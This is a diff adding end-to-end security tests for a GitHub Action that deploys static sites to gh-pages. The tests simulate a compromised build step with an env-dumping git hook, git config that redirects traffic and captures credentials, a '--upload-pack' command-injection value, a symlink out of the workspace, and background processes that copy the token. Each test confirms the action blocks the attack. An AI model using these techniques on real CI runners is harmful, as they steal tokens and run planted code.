@@ -1,0 +1,317 @@
+// End to end: the site's install and build are untrusted code. Each test attacks for real, as a compromised package
+// would, and checks what a user would: nothing stolen, nothing run, nothing left, the remote untouched when the step
+// must fail, and a message that names the cause.
+import { execFileSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import * as fs from 'node:fs/promises';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { VALID_TOKEN } from '../support/git-server.mjs';
+import { expectNoSecretAnywhere, STATIC_SITE_FILES, tokenForms, useEndToEnd } from '../support/e2e.js';
+import { setDeployTarget } from '../support/hexo.mjs';
+import { runAction, type Job } from '../support/run-action.mjs';
+import { makeKey } from '../support/ssh-server.mjs';
+
+const e2e = useEndToEnd();
+
+/** An HTTP server on loopback that answers 404 to everything and records what it was sent. */
+async function recorder(): Promise<{
+  url: string;
+  requests: { url: string; authorization: string }[];
+  stop(): Promise<void>;
+}> {
+  const requests: { url: string; authorization: string }[] = [];
+  const server = http.createServer((request, response) => {
+    requests.push({ url: request.url ?? '', authorization: request.headers.authorization ?? '' });
+    response.writeHead(404).end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    url: `http://127.0.0.1:${port}`,
+    requests,
+    stop: () =>
+      new Promise<void>((resolve) =>
+        server.close(() => {
+          resolve();
+        }),
+      ),
+  };
+}
+
+/** A repository with a live site, and a static-site job whose config holds the token's placeholder. */
+async function staticJob(prefix: string): Promise<{ repo: string; tip: string; work: Job }> {
+  const repo = e2e.repoName(prefix);
+  await e2e.server.createRepo(repo);
+  const tip = await e2e.server.commit(repo, 'gh-pages', { 'index.html': 'live\n' });
+  const work = await e2e.job({ fixture: 'static-site' });
+  await fs.writeFile(path.join(work.workspace, 'site.conf'), 'token: GITHUB_ACCESS_TOKEN\n');
+  return { repo, tip, work };
+}
+
+function deploy(
+  work: Job,
+  repo: string,
+  inputs: Record<string, string>,
+  options: { env?: Record<string, string>; cancel?: { whenExists: string } } = {},
+): ReturnType<typeof runAction> {
+  return runAction(work, {
+    serverUrl: e2e.server.url,
+    ...options,
+    inputs: { token: VALID_TOKEN, repository: repo, 'config-file': 'site.conf', ...inputs },
+  });
+}
+
+test('a hook planted where the temporary repository used to be is never run', async () => {
+  const { repo, work } = await staticJob('hook');
+  // The build creates the folder the publish step used to reuse, with a pre-push hook that records git's environment.
+  const hook = '#!/bin/sh\nenv > "$HOME/stolen-by-hook"\n';
+  const plant = [
+    'for dir in "$RUNNER_TEMP"/pages-push-*; do',
+    '  git init -q --bare "$dir/repo.git"',
+    `  printf '%s' '${hook}' > "$dir/repo.git/hooks/pre-push"`,
+    '  chmod +x "$dir/repo.git/hooks/pre-push"',
+    'done',
+  ].join('\n');
+
+  const result = await deploy(work, repo, { build: plant });
+
+  expect(result.errors).toEqual([]);
+  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
+  expect(existsSync(path.join(work.home, 'stolen-by-hook'))).toBe(false);
+});
+
+test('git config the build writes into HOME is not read by our git: no hook, no redirect, no helper, no proxy', async () => {
+  const { repo, work } = await staticJob('gitconfig');
+  const trap = await recorder();
+  try {
+    const hooks = path.join(work.home, 'hooks');
+    const plant = [
+      `mkdir -p "${hooks}"`,
+      `printf '#!/bin/sh\\nenv > "$HOME/stolen-by-hook"\\n' > "${hooks}/pre-push"`,
+      `chmod +x "${hooks}/pre-push"`,
+      `git config --global core.hooksPath "${hooks}"`,
+      `git config --global url."${trap.url}/".insteadOf "${e2e.server.url}/"`,
+      `git config --global http.proxy "${trap.url}"`,
+      `git config --global credential.helper '!f() { cat >> "$HOME/stolen-by-helper"; }; f'`,
+    ].join(' && ');
+
+    const result = await deploy(work, repo, { install: plant, build: 'skip' });
+
+    expect(result.errors).toEqual([]);
+    expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
+    expect(trap.requests).toEqual([]);
+    expect(['stolen-by-hook', 'stolen-by-helper'].filter((name) => existsSync(path.join(work.home, name)))).toEqual([]);
+  } finally {
+    await trap.stop();
+  }
+});
+
+test('a deploy repo in _config.yml that is a git option runs nothing, and fails naming where it came from', async () => {
+  const keysDir = await fs.mkdtemp(path.join(os.tmpdir(), 'pages-push-keys-'));
+  try {
+    const key = await makeKey(keysDir, 'attack');
+    const work = await e2e.job();
+    await setDeployTarget(work.workspace, '--upload-pack=touch${IFS}PWNED;echo:x', 'gh-pages');
+    const hashed = execFileSync(
+      'sh',
+      ['-c', 'echo "x ssh-ed25519 AAAA" > kh && ssh-keygen -H -f kh >/dev/null 2>&1 && head -1 kh'],
+      {
+        cwd: keysDir,
+        encoding: 'utf8',
+      },
+    );
+
+    const result = await runAction(work, {
+      serverUrl: e2e.server.url,
+      inputs: {
+        token: '',
+        'deploy-key': key.privateKey,
+        'known-hosts': `${hashed}\n* ssh-ed25519 AAAA`,
+        build: 'skip',
+      },
+    });
+
+    expect(result.exitCode).toBe(1);
+    expect(result.errors[0]).toContain('Input "deploy repo in _config.yml" is refused: it starts with "-"');
+    expect(execFileSync('find', [work.root, '-name', 'PWNED'], { encoding: 'utf8' })).toBe('');
+  } finally {
+    await fs.rm(keysDir, { recursive: true, force: true });
+  }
+});
+
+test('the token is not sent to a host only the site config names', async () => {
+  const trap = await recorder();
+  try {
+    const work = await e2e.job();
+    await setDeployTarget(work.workspace, `${trap.url}/octo/blog.git`, 'gh-pages');
+
+    const result = await runAction(work, {
+      serverUrl: e2e.server.url,
+      githubToken: VALID_TOKEN,
+      inputs: { build: 'skip' },
+    });
+
+    expect(result.exitCode).toBe(1);
+    expect(result.errors[0]).toContain(`set "repository: ${trap.url}/octo/blog.git"`);
+    expect(trap.requests).toEqual([]);
+  } finally {
+    await trap.stop();
+  }
+});
+
+test('a publish folder that is a link out of the workspace is refused, and nothing is pushed', async () => {
+  const { repo, tip, work } = await staticJob('symlink');
+  await fs.mkdir(path.join(work.home, '.ssh'));
+  await fs.writeFile(path.join(work.home, '.ssh', 'id_rsa'), 'a private key of the runner\n');
+
+  const result = await deploy(work, repo, { build: 'rm -rf public && ln -s "$HOME" public' });
+
+  expect(result.exitCode).toBe(1);
+  expect(result.errors[0]).toContain('Input "publish-dir" must stay inside the workspace');
+  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
+});
+
+test('the post step deletes no folder but the one the main step made and proved', async () => {
+  const { repo, work } = await staticJob('state');
+  const precious = path.join(work.home, 'precious');
+  // The build finds the step's state file and names another folder as the one to delete.
+  const plant = [
+    `mkdir -p "${precious}" && echo keep > "${precious}/file"`,
+    `echo "\${GITHUB_STATE:-no GITHUB_STATE}" > "$HOME/state-variable"`,
+    `for file in "${work.root}"/state-*; do printf 'tempDir=%s\\n' "${precious}" >> "$file"; done`,
+  ].join(' && ');
+
+  const result = await deploy(work, repo, { build: plant });
+
+  expect(result.errors).toEqual([]);
+  expect(await fs.readFile(path.join(precious, 'file'), 'utf8')).toBe('keep\n');
+  expect(result.post?.warnings).toEqual([
+    `Not deleting ${precious}: it is not the temporary folder the main step made.`,
+  ]);
+  expect(await fs.readFile(path.join(work.home, 'state-variable'), 'utf8')).toBe('no GITHUB_STATE\n');
+});
+
+test('a failed build with an explicit publish-dir leaves no token in it', async () => {
+  const { repo, tip, work } = await staticJob('failed');
+
+  const result = await deploy(work, repo, { build: 'cp site.conf public/leak.txt && exit 4', 'publish-dir': 'public' });
+
+  expect(result.exitCode).toBe(1);
+  expect(result.errors[0]).toContain('failed with exit code 4');
+  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
+  expect(await fs.readFile(path.join(work.workspace, 'public', 'leak.txt'), 'utf8')).toBe(
+    'token: GITHUB_ACCESS_TOKEN\n',
+  );
+  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
+});
+
+test('a background process the build started is stopped with it, before it can write the token anywhere', async () => {
+  const { repo, work } = await staticJob('background');
+  const late = path.join(work.home, 'late.txt');
+  const build = `token=$(cat site.conf); (sleep 2; echo "$token" > "${late}") > /dev/null 2>&1 & echo started`;
+
+  const result = await deploy(work, repo, { build });
+  await new Promise((resolve) => setTimeout(resolve, 3000));
+
+  expect(result.errors).toEqual([]);
+  expect(existsSync(late)).toBe(false);
+  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
+});
+
+test('a job cancelled during the build stops it, restores the config and leaves no token anywhere', async () => {
+  const { repo, tip, work } = await staticJob('cancel');
+  const ready = path.join(work.home, 'ready');
+  const late = path.join(work.home, 'late.txt');
+  const build = [
+    'cp site.conf public/copy.txt',
+    `token=$(cat site.conf); (sleep 3; echo "$token" > "${late}") > /dev/null 2>&1 &`,
+    `touch "${ready}"`,
+    'sleep 60',
+  ].join('\n');
+
+  const result = await deploy(work, repo, { build }, { cancel: { whenExists: ready } });
+  await new Promise((resolve) => setTimeout(resolve, 4000));
+
+  expect(result.signals).toEqual(['SIGINT']);
+  expect(result.exitCode).toBe(1);
+  expect(result.errors[0]).toContain('The job was cancelled (SIGINT) while the build command');
+  expect(await fs.readFile(path.join(work.workspace, 'site.conf'), 'utf8')).toBe('token: GITHUB_ACCESS_TOKEN\n');
+  expect(existsSync(late)).toBe(false);
+  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
+  expect(await fs.readdir(work.runnerTemp)).toEqual([]);
+  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
+});
+
+test('a main step killed outright gets its config restored and the workspace scrubbed by the post step', async () => {
+  const { repo, work } = await staticJob('killed');
+  const ready = path.join(work.home, 'ready');
+  // A build that ignores SIGINT and SIGTERM would keep the main step alive until SIGKILL; here the action itself
+  // is stopped before it can clean up: only the post step is left to do it.
+  const build = `cp site.conf public/copy.txt; touch "${ready}"; sleep 60`;
+
+  const result = await runAction(work, {
+    serverUrl: e2e.server.url,
+    cancel: { whenExists: ready, signals: ['SIGKILL'] },
+    inputs: { token: VALID_TOKEN, repository: repo, 'config-file': 'site.conf', build },
+  });
+
+  expect(result.signals).toEqual(['SIGKILL']);
+  expect(result.post?.stdout).toContain('Restored 1 config file(s) the main step had not restored.');
+  expect(await fs.readFile(path.join(work.workspace, 'site.conf'), 'utf8')).toBe('token: GITHUB_ACCESS_TOKEN\n');
+  expect(await fs.readFile(path.join(work.workspace, 'public', 'copy.txt'), 'utf8')).toBe(
+    'token: GITHUB_ACCESS_TOKEN\n',
+  );
+  expect(await fs.readdir(work.runnerTemp)).toEqual([]);
+  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
+});
+
+test('the leak guard finds the token inside a gzip file of the site', async () => {
+  const { repo, tip, work } = await staticJob('gzip');
+  await fs.writeFile(
+    path.join(work.workspace, 'zip.mjs'),
+    [
+      "import { gzipSync } from 'node:zlib';",
+      "import { readFileSync, writeFileSync } from 'node:fs';",
+      "writeFileSync('public/config.txt.gz', gzipSync(readFileSync('site.conf')));",
+    ].join('\n'),
+  );
+
+  const result = await deploy(work, repo, { build: 'node zip.mjs' });
+
+  expect(result.exitCode).toBe(1);
+  expect(result.errors[0]).toContain(
+    `Refusing to publish: a file of the site contains the token or the deploy key: ${path.join('public', 'config.txt.gz')}`,
+  );
+  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
+});
+
+test("the user's commands get none of the runner's internal tokens", async () => {
+  const { repo, work } = await staticJob('runner-tokens');
+  const env = {
+    ACTIONS_RUNTIME_TOKEN: 'runtime-token-value',
+    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-token-value',
+    ACTIONS_ID_TOKEN_REQUEST_URL: 'https://oidc.example/token',
+    ACTIONS_CACHE_URL: 'https://cache.example/',
+    ACTIONS_RESULTS_URL: 'https://results.example/',
+  };
+
+  const result = await deploy(work, repo, { build: 'env > "$HOME/build-env"' }, { env });
+
+  expect(result.errors).toEqual([]);
+  const seen = await fs.readFile(path.join(work.home, 'build-env'), 'utf8');
+  expect(Object.keys(env).filter((name) => seen.includes(name))).toEqual([]);
+});
+
+test('a .git folder of the publish folder is not published, in any case', async () => {
+  const { repo, work } = await staticJob('dotgit');
+
+  const result = await deploy(work, repo, {
+    build: 'mkdir -p public/.GIT public/docs/.Git && echo x > public/.GIT/config && echo y > public/docs/.Git/HEAD',
+  });
+
+  expect(result.errors).toEqual([]);
+  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
+});
